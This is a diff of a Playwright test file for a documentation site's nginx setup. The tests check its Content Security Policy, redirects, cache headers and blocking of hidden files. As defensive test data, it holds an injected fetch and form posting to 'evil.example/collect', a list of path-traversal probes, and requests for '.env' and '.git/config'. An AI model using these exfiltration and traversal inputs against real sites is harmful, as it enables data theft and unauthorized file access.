@@ -9,13 +9,12 @@ import {get, type IncomingHttpHeaders} from 'node:http';
 import {tmpdir} from 'node:os';
 import path from 'node:path';
 import {gunzipSync} from 'node:zlib';
-import type {Route} from '@playwright/test';
 import {startNginx} from '../support/nginx';
 import {IMMUTABLE, REVALIDATE} from '../../src/config/headers';
 import {builtRedirects} from '../support/builtSite';
 import {observatory} from '../support/observatory';
-import {expect, foreignRequests, NGINX_FILE, open, ROOT, test, type Servers} from './servers';
-import {chat, CORS, follow, fulfill, modeButton, search} from './site';
+import {expect, NGINX_FILE, open, ROOT, test, type Servers} from './servers';
+import {ALGOLIA, CORS, follow, hostsOf, mockHosts, modeButton, requestsElsewhere, search} from './site';
 
 type Answer = {readonly status: number; readonly headers: IncomingHttpHeaders; readonly body: string};
 
@@ -40,53 +39,19 @@ test.describe('a page in the browser', () => {
     const node = page.locator('.docusaurus-mermaid-container svg rect').first();
     const fill = () => node.evaluate((rect) => getComputedStyle(rect).fill);
     await open(page, `${servers.plain}/docs/serenity-aihub/agents`);
+    await expect(node).toBeVisible();
     const light = await fill();
     // A shape without its color variable is black.
     expect(light).not.toBe('rgb(0, 0, 0)');
-    await expect(node).toBeVisible();
     await modeButton(page).click();
     await expect.poll(fill).not.toBe(light);
     await follow(page, 'Blog', `${servers.plain}/blog`);
     await page.goBack();
     await expect(node).toBeVisible();
-    expect(await page.locator('svg style').count()).toBe(0);
+    await expect(page.locator('svg style')).toHaveCount(0);
   });
 
-  test('searches in the modal, on the search page, and in the panel without external hosts', async ({
-    page,
-    servers,
-  }) => {
-    const foreign = foreignRequests(page, servers.plain);
-    await open(page, `${servers.plain}/docs/getting-started/overview`);
-    await search.open(page, 'webhook agent');
-    await expect(search.hits(page).first()).toBeVisible();
-    await page.keyboard.press('Escape');
-    await chat.launcher(page).click();
-    await chat.question(page).fill('How do I call an agent?');
-    await page.getByRole('button', {name: 'Ask', exact: true}).click();
-    await expect(chat.passages(page).first()).toBeVisible();
-    await open(page, `${servers.plain}/search?q=agent`);
-    await expect(search.results(page).first()).toBeVisible();
-    await open(page, `${servers.plain}/release-notes`);
-    await page.getByRole('combobox', {name: 'Product area'}).selectOption({label: 'SDKs'});
-    expect(foreign).toEqual([]);
-  });
-
-  test('can call only the documented API', async ({page, servers}) => {
-    const spec = JSON.parse(readFileSync(path.join(ROOT, 'api/openapi.json'), 'utf8')) as {servers: {url: string}[]};
-    const api = spec.servers[0]?.url ?? '';
-    await page.route(`${api}/**`, (route) => route.fulfill({headers: CORS, json: {fine: true}}));
-    await open(page, `${servers.plain}/docs/api/aihub/execute-agent-with-code`);
-    expect(await page.evaluate(async (url) => (await fetch(`${url}/probe`)).json() as Promise<unknown>, api)).toEqual({
-      fine: true,
-    });
-  });
-
-  test('with injected content: blocks injected scripts, handlers, styles, and requests to other hosts', async ({
-    page,
-    servers,
-    expectedErrors,
-  }) => {
+  test('blocks injected scripts, handlers, styles, and foreign requests', async ({page, servers, expectedErrors}) => {
     expectedErrors.push(/Policy violated|Content Security Policy/);
     // Requests that the policy blocks don't reach this handler.
     const reached: string[] = [];
@@ -114,22 +79,14 @@ test.describe('a page in the browser', () => {
       document.body.append(script, external, style, frame, image);
       document.head.append(base);
       await loaded;
-      const failed = await fetch('https://evil.example/collect', {method: 'POST', body: 'x'}).then(
-        () => 'sent',
-        () => 'blocked',
-      );
-      let evaluated = 'ran';
-      try {
-        new Function('return 1')();
-      } catch {
-        evaluated = 'blocked';
-      }
+      const [sending, evaluation] = await Promise.allSettled([
+        fetch('https://evil.example/collect', {method: 'POST', body: 'x'}),
+        new Promise((resolve) => resolve(new Function('return 1')())),
+      ]);
       // Violations are reported asynchronously, so trigger a last one and wait for it.
       await new Promise<void>((resolve) => {
         document.addEventListener('securitypolicyviolation', (event) => {
-          if (event.effectiveDirective === 'form-action') {
-            resolve();
-          }
+          if (event.effectiveDirective === 'form-action') resolve();
         });
         const form = document.createElement('form');
         form.action = 'https://evil.example/';
@@ -138,17 +95,16 @@ test.describe('a page in the browser', () => {
         form.submit();
       });
       return {
-        failed,
-        evaluated,
+        sending: sending.status,
+        evaluation: evaluation.status,
         ran: 'scriptRan' in window || 'handlerRan' in window,
         color: getComputedStyle(document.body).color,
         base: document.baseURI,
         violations: [...new Set(violations)].sort(),
       };
     });
-    expect(outcome).toMatchObject({failed: 'blocked', evaluated: 'blocked', ran: false});
+    expect(outcome).toMatchObject({sending: 'rejected', evaluation: 'rejected', ran: false, base: `${servers.plain}/`});
     expect(outcome.color).not.toBe('rgb(1, 2, 3)');
-    expect(outcome.base).toBe(`${servers.plain}/`);
     expect(outcome.violations).toEqual([
       'base-uri',
       'connect-src',
@@ -163,71 +119,52 @@ test.describe('a page in the browser', () => {
   });
 });
 
-test.describe('with every external service configured', () => {
-  test('search, widget, and analytics work within the policy', async ({page, servers}) => {
-    const hosts = new Set<string>();
-    const answer = (pattern: string | RegExp, handler: (route: Route) => Promise<void>) =>
-      page.route(pattern, (route) => {
-        hosts.add(new URL(route.request().url()).host);
-        return handler(route);
-      });
-    await answer(/^https:\/\/testappid1[^/]*\.(?:algolia|algolianet)\.(?:net|com)\//, (route) =>
-      route.fulfill({headers: CORS, json: {results: [{hits: [], nbHits: 0}]}}),
-    );
-    // Both mock scripts make the same kinds of requests as the real ones.
-    await answer(
-      'https://www.googletagmanager.com/**',
-      fulfill(`
-        navigator.sendBeacon('https://region1.google-analytics.com/g/collect?v=2');
-        new Image().src = 'https://www.google-analytics.com/g/collect?v=2';
-        window.tagScriptRan = true;
-      `),
-    );
-    await answer(/^https:\/\/[^/]*\.google-analytics\.com\//, (route) => route.fulfill({status: 204}));
-    await answer('https://hub.serenitystar.ai/resources/chat.css', fulfill('', '.widget {color: teal}'));
-    await answer('https://hub.serenitystar.ai/resources/logo.svg', (route) =>
-      route.fulfill({contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>'}),
-    );
-    await answer(
-      'https://hub.serenitystar.ai/resources/chat.js',
-      fulfill(`
-        window.AIHubChat = class {
-          constructor(id, options) {
-            this.id = id;
-            this.options = options;
-          }
-          async init() {
-            await fetch(this.options.baseURL + '/v2/agent');
-            const element = document.getElementById(this.id);
-            element.className = 'widget';
-            element.textContent = 'The chat of the provider';
-            const logo = new Image();
-            logo.src = 'https://hub.serenitystar.ai/resources/logo.svg';
-            element.append(logo);
-          }
-        };
-      `),
-    );
-    await answer('https://api.serenitystar.ai/**', (route) => route.fulfill({headers: CORS, json: {}}));
-
-    await open(page, `${servers.hosted}/docs/getting-started/overview`);
-    await expect(page.getByText('The chat of the provider')).toHaveCSS('color', 'rgb(0, 128, 128)');
-    await expect.poll(() => page.evaluate(() => 'tagScriptRan' in window)).toBe(true);
-    await search.open(page, 'activity');
-    await expect(search.dialog(page)).toContainText('No results for');
-    await open(page, `${servers.hosted}/search?q=activity`);
-    await expect(page.getByRole('main')).toContainText('No results for');
-    await expect
-      .poll(() => [...hosts].sort())
-      .toEqual([
-        'api.serenitystar.ai',
-        'hub.serenitystar.ai',
-        'region1.google-analytics.com',
-        'testappid1-dsn.algolia.net',
-        'www.google-analytics.com',
-        'www.googletagmanager.com',
-      ]);
+test('with every external service configured: search, widget, and analytics work', async ({page, servers}) => {
+  const requests = requestsElsewhere(page, servers.hosted);
+  // Both mock scripts make the same kinds of requests as the real ones.
+  await mockHosts(page, {
+    tag: `
+      navigator.sendBeacon('https://region1.google-analytics.com/g/collect?v=2');
+      new Image().src = 'https://www.google-analytics.com/g/collect?v=2';
+    `,
+    chat: `
+      window.AIHubChat = class {
+        constructor(id, options) {
+          Object.assign(this, {id, options});
+        }
+        async init() {
+          await fetch(this.options.baseURL + '/v2/agent');
+          const element = document.getElementById(this.id);
+          element.className = 'widget';
+          element.textContent = 'The chat of the provider';
+          const logo = new Image();
+          logo.src = 'https://hub.serenitystar.ai/resources/logo.svg';
+          element.append(logo);
+        }
+      };
+    `,
+    css: '.widget {color: teal}',
   });
+  await page.route(ALGOLIA, (route) => route.fulfill({headers: CORS, json: {results: [{hits: [], nbHits: 0}]}}));
+  await page.route(/^https:\/\/[^/]*\.google-analytics\.com\//, (route) => route.fulfill({status: 204}));
+  await page.route('https://api.serenitystar.ai/**', (route) => route.fulfill({headers: CORS, json: {}}));
+
+  await open(page, `${servers.hosted}/docs/getting-started/overview`);
+  await expect(page.getByText('The chat of the provider')).toHaveCSS('color', 'rgb(0, 128, 128)');
+  await search.open(page, 'activity');
+  await expect(search.dialog(page)).toContainText('No results for');
+  await open(page, `${servers.hosted}/search?q=activity`);
+  await expect(page.getByRole('main')).toContainText('No results for');
+  await expect
+    .poll(() => hostsOf(requests))
+    .toEqual([
+      'api.serenitystar.ai',
+      'hub.serenitystar.ai',
+      'region1.google-analytics.com',
+      'testappid1-dsn.algolia.net',
+      'www.google-analytics.com',
+      'www.googletagmanager.com',
+    ]);
 });
 
 const SECURITY_HEADERS = {
@@ -241,24 +178,23 @@ const SECURITY_HEADERS = {
 /** Hashed file names are read from the build. */
 function firstMatch(file: string, pattern: RegExp): string {
   const [found] = pattern.exec(readFileSync(path.join(ROOT, 'build', file), 'utf8')) ?? [];
-  if (!found) {
-    throw new Error(`build/${file} holds nothing like ${pattern}.`);
-  }
+  if (!found) throw new Error(`build/${file} has no match for ${pattern}.`);
   return found;
 }
 
+const MAIN_SCRIPT = firstMatch('index.html', /\/assets\/js\/main\.[0-9a-f]+\.js/);
 const HTML = /^text\/html; ?charset=utf-8$/;
 
-const KINDS: ReadonlyArray<
-  readonly [kind: string, target: string, status: number, type: RegExp | string, cache: string]
-> = [
+type Kind = readonly [kind: string, target: string, status: number, type: RegExp | string, cache: string];
+
+const KINDS: readonly Kind[] = [
   ['home page', '/', 200, HTML, REVALIDATE],
   ['page', '/docs/billing', 200, HTML, REVALIDATE],
   ['page with a query', '/search?q=a%2fb', 200, HTML, REVALIDATE],
   ['unlisted page', '/docs/responsible-use-of-ai', 200, HTML, REVALIDATE],
   ['missing page', '/docs/no-such-page', 404, HTML, REVALIDATE],
   ['error page by its own name', '/404.html', 404, HTML, REVALIDATE],
-  ['script', firstMatch('index.html', /\/assets\/js\/main\.[0-9a-f]+\.js/), 200, /^text\/javascript/, IMMUTABLE],
+  ['script', MAIN_SCRIPT, 200, /^text\/javascript/, IMMUTABLE],
   ['stylesheet', firstMatch('index.html', /\/assets\/css\/styles\.[0-9a-f]+\.css/), 200, /^text\/css/, IMMUTABLE],
   ['font', firstMatch('index.html', /\/fonts\/[\w.-]+\.woff2/), 200, 'font/woff2', IMMUTABLE],
   ['missing asset', '/assets/js/main.00000000.js', 404, HTML, REVALIDATE],
@@ -304,42 +240,32 @@ for (const name of SERVERS) {
       expect((await ask(server, '/docs/billing', {'If-None-Match': headers.etag ?? ''})).status).toBe(304);
     });
 
-    test('answers redirects and trailing slashes with a 301 to a path of the site', async ({servers, baseURL}) => {
+    test('answers redirects, trailing slashes, and wrong cases with a 301', async ({servers, baseURL}) => {
+      const server = address(servers, baseURL);
+      const tool = '/docs/client-library-reference/CLI/create-serenity-app-cli';
       const moved = [
         ...builtRedirects().flatMap(({from, to}) => [
-          {from, to},
-          {from: `${from}/`, to},
+          [from, to],
+          [`${from}/`, to],
         ]),
-        {from: '/docs/billing/', to: '/docs/billing'},
-        {from: '/Docs/Integrations?a=b', to: '/docs/category/integrations?a=b'},
-        {from: '/blog/?from=feed', to: '/blog?from=feed'},
-        {from: '/terms?from=mail', to: '/terms/terms-of-use?from=mail'},
-      ];
-      for (const {from, to} of moved) {
-        const {status, headers} = await ask(address(servers, baseURL), from, {Host: 'evil.example'});
-        expect([status, headers.location], from).toEqual([301, to]);
-        expect(headers, from).toMatchObject(SECURITY_HEADERS);
-      }
-    });
-
-    test('letters in the wrong case are a 301 to the page, which keeps its own', async ({servers, baseURL}) => {
-      const tool = '/docs/client-library-reference/CLI/create-serenity-app-cli';
-      for (const [from, to] of [
+        ['/docs/billing/', '/docs/billing'],
+        ['/Docs/Integrations?a=b', '/docs/category/integrations?a=b'],
+        ['/blog/?from=feed', '/blog?from=feed'],
+        ['/terms?from=mail', '/terms/terms-of-use?from=mail'],
         ['/Docs/Billing', '/docs/billing'],
         ['/BLOG?a=B', '/blog?a=B'],
         ['/docs/Billing.md', '/docs/billing.md'],
         [tool.toLowerCase(), tool],
-      ] as const) {
-        const {status, headers} = await ask(address(servers, baseURL), from);
+      ];
+      for (const [from = '', to = ''] of moved) {
+        const {status, headers} = await ask(server, from, {Host: 'evil.example'});
         expect([status, headers.location], from).toEqual([301, to]);
-        expect((await ask(address(servers, baseURL), to)).status, to).toBe(200);
+        expect(headers, from).toMatchObject(SECURITY_HEADERS);
       }
+      for (const to of new Set(moved.map(([, to = '']) => to))) expect((await ask(server, to)).status, to).toBe(200);
     });
 
-    test('climbing, disguised and doubled slashes are refused, and no redirect leaves the site', async ({
-      servers,
-      baseURL,
-    }) => {
+    test('refuses climbing, disguised, and doubled slashes, and redirects nowhere', async ({servers, baseURL}) => {
       const probes = String.raw`
         /../package.json /docs/../../package.json /.. /docs/.. /%2e%2e/package.json
         /docs/.%2e/.%2e/package.json /..%2f..%2fpackage.json /..%2F..%2Fpackage.json
@@ -358,11 +284,10 @@ for (const name of SERVERS) {
     });
 
     test('serves no source, source map, dot file, or host file', async ({servers, baseURL}) => {
-      const script = firstMatch('index.html', /\/assets\/js\/main\.[0-9a-f]+\.js/);
       const hidden = `
         /_headers /_redirects /staticwebapp.config.json /nginx.conf /deploy/nginx.conf /.env
         /.git/config /.gitignore /docs/.DS_Store /package.json /docusaurus.config.ts /src/config/env.ts
-        /docs/getting-started/overview.mdx /blog/authors.yml ${script}.map
+        /docs/getting-started/overview.mdx /blog/authors.yml ${MAIN_SCRIPT}.map
       `;
       for (const target of hidden.trim().split(/\s+/)) {
         expect((await ask(address(servers, baseURL), target)).status, target).toBe(404);
@@ -372,13 +297,12 @@ for (const name of SERVERS) {
     test('gets an A+ by the rules of the HTTP Observatory', async ({servers, baseURL}) => {
       const {headers, body} = await ask(address(servers, baseURL), '/');
       const flat = Object.fromEntries(Object.entries(headers).map(([header, value]) => [header, String(value)]));
-      const {grade, score, results} = observatory(flat, body, 'https://docs.example.com');
+      const gradeOf = (sent: Parameters<typeof observatory>[0]) => observatory(sent, body, 'https://docs.example.com');
+      const {grade, score, results} = gradeOf(flat);
       expect(grade, JSON.stringify(results, null, 2)).toBe('A+');
       expect(score).toBe(130);
       // The grade changes with the headers.
-      expect(observatory({...flat, 'content-security-policy': undefined}, body, 'https://docs.example.com').grade).toBe(
-        'C',
-      );
+      expect(gradeOf({...flat, 'content-security-policy': undefined}).grade).toBe('C');
     });
   });
 }
@@ -399,13 +323,10 @@ test('serves Markdown to clients that prefer it, and HTML to others', async () =
     const markdown = 'text/markdown; charset=utf-8';
     const html = 'text/html; charset=utf-8';
     expect(await type('/docs/with', 'text/markdown')).toBe(markdown);
-    expect(await type('/docs/with', 'text/markdown, text/html;q=0.9, */*;q=0.1')).toBe(markdown);
     expect(await type('/', 'TEXT/MARKDOWN')).toBe(markdown);
     expect(await type('/docs/with.md')).toBe(markdown);
     expect(await type('/docs/with')).toBe(html);
-    expect(await type('/docs/with', 'text/html,application/xhtml+xml,*/*;q=0.8')).toBe(html);
     expect(await type('/docs/with', 'text/html, text/markdown;q=0.5')).toBe(html);
-    expect(await type('/docs/with', 'text/markdown;q=0, */*')).toBe(html);
     expect(await type('/docs/without', 'text/markdown')).toBe(html);
     expect(await type('/favicon.ico', 'text/markdown')).toBe('image/x-icon');
     expect((await ask(nginx.url, '/docs/none', {Accept: 'text/markdown'})).status).toBe(404);
